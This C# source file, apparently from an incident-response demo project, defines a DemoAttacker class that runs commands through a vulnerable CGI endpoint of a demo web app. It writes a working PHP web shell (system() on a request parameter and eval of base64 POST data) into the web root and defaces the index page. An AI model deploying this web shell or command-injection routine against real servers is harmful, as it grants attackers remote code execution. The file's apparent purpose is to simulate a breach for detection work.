namespace DockerIR.Core.Demo;

/// <summary>
/// Breaches the demo app over HTTP exactly as an attacker would: through the vulnerable CGI endpoint, it drops
/// a PHP web shell into the web root and defaces the index page.
/// </summary>
public sealed class DemoAttacker(HttpClient http)
{
    public const string ShellPath = DemoWebApp.WebRoot + "/shell.php";
    public const string IndexPath = DemoWebApp.WebRoot + "/index.html";
    public const string ShellContent = "<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } eval(base64_decode($_POST['x'] ?? '')); ?>\n";
    public const string DefacedIndex = "<html><body style=\"background:black;color:red\"><h1>HACKED BY DockerIR-demo crew</h1></body></html>\n";

    /// <summary>Runs a shell command through the vulnerable endpoint and returns what it printed.</summary>
    public async Task<string> RunAsync(Uri baseAddress, string command, CancellationToken cancellationToken)
    {
        var uri = new Uri(baseAddress, "cgi-bin/eval.cgi?cmd=" + Uri.EscapeDataString(command));
        using var response = await http.GetAsync(uri, cancellationToken);
        return await response.Content.ReadAsStringAsync(cancellationToken);
    }

    /// <summary>Drops shell.php and overwrites index.html; returns what the commands printed (empty when they succeeded).</summary>
    public async Task<string> BreachAsync(Uri baseAddress, CancellationToken cancellationToken)
    {
        var dropped = await RunAsync(baseAddress, $"printf '%s' {Quote(ShellContent)} > {ShellPath}", cancellationToken);
        var defaced = await RunAsync(baseAddress, $"printf '%s' {Quote(DefacedIndex)} > {IndexPath}", cancellationToken);
        return (dropped + defaced).Trim();
    }

    private static string Quote(string s) => "'" + s.Replace("'", "'\\''", StringComparison.Ordinal) + "'";
}
